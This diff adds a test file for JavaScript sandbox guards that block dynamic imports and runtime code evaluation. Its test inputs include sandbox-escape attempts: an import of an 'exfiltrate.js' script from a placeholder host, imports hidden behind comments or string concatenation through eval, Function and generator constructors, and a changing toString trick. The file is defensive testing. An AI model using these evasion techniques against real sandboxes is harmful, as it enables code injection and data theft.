@@ -0,0 +1,65 @@
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { EvaluationScope, SandboxViolationError, assertNoDynamicImport, guardCodeEvaluation } from './sandboxGuards';
+
+describe('assertNoDynamicImport', () => {
+  it('rejects a dynamic import', () => {
+    expect(() => assertNoDynamicImport("await import('https://example.com/exfiltrate.js')")).toThrow(SandboxViolationError);
+    expect(() => assertNoDynamicImport('import (\n  "https://example.com/a.js"\n)')).toThrow(SandboxViolationError);
+    expect(() => assertNoDynamicImport('import /* later */ ("./a.js")')).toThrow(SandboxViolationError);
+    expect(() => assertNoDynamicImport('import // later\n("./a.js")')).toThrow(SandboxViolationError);
+  });
+
+  it('accepts words that only start with import', () => {
+    expect(() => assertNoDynamicImport('const important = reimport(1); console.log(importScripts)')).not.toThrow();
+  });
+});
+
+describe('guardCodeEvaluation', () => {
+  const scope = globalThis as unknown as EvaluationScope;
+  const prototypes = [function () {}, async function () {}, function* () {}, async function* () {}].map(
+    fn => Object.getPrototypeOf(fn) as { constructor: unknown }
+  );
+  const run = (code: string) => scope.eval(code);
+  let restore: () => void;
+
+  // The guard patches this realm the way it patches the worker's; undo it after each test
+  beforeEach(() => {
+    const { eval: nativeEval, Function: nativeFunction } = scope;
+    const constructors = prototypes.map(prototype => prototype.constructor);
+    restore = () => {
+      scope.eval = nativeEval;
+      scope.Function = nativeFunction;
+      prototypes.forEach((prototype, i) => {
+        Object.defineProperty(prototype, 'constructor', { value: constructors[i], writable: true, configurable: true });
+      });
+    };
+    guardCodeEvaluation(scope);
+  });
+
+  afterEach(() => restore());
+
+  it('makes a dynamic import built at run time fail', () => {
+    expect(() => run(`eval('imp' + 'ort("https://example.com/a.js")')`)).toThrow(SandboxViolationError);
+    expect(() => run(`new Function('return imp' + 'ort("https://example.com/a.js")')`)).toThrow(SandboxViolationError);
+    expect(() => run(`(async () => {}).constructor('await imp' + 'ort("https://example.com/a.js")')`)).toThrow(SandboxViolationError);
+    expect(() => run(`(function* () {}).constructor('yield imp' + 'ort("https://example.com/a.js")')`)).toThrow(SandboxViolationError);
+    expect(() => run(`(async function* () {}).constructor('yield imp' + 'ort("https://example.com/a.js")')`)).toThrow(SandboxViolationError);
+  });
+
+  it('checks an argument once, as the source it becomes', () => {
+    const reads = run(`(() => {
+      let reads = 0;
+      Function({ toString: () => (reads++ === 0 ? 'return 1' : 'return imp' + 'ort("https://example.com/a.js")') });
+      return reads;
+    })()`);
+
+    expect(reads).toBe(1);
+  });
+
+  it('keeps other code working', () => {
+    expect(run(`eval('1 + 2')`)).toBe(3);
+    expect(run(`new Function('a', 'b', 'return a * b')(6, 7)`)).toBe(42);
+    expect(run(`Function('return this')() === globalThis`)).toBe(true);
+    expect(run(`(() => {}) instanceof Function`)).toBe(true);
+  });
+});